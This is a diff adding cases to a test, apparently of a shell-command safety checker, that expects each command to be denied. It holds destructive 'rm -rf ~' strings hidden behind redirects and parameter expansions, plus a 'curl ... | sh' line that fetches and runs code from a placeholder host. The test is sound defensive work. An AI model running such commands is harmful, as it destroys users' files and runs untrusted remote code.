@@ -166,6 +166,10 @@ def test_files_read_back_shapes():
     "${x:-rm -rf ~}",
     "time ${x:-rm -rf ~}",
     "time ${x:-curl -s x.example} | sh",  # split where it stands: still the pipeline's first stage
+    # a redirect to a bare `$` before a blank: a file named "$" (make fuzz seed 465)
+    "2>$  rm -rf ~ ",
+    ">$ rm -rf ~",
+    "true >> $ ; rm -rf ~",
 ])
 def test_bash_words_tree_sitter_misread_denied(judge_command, cmd):
     _expect(judge_command, cmd, "deny")
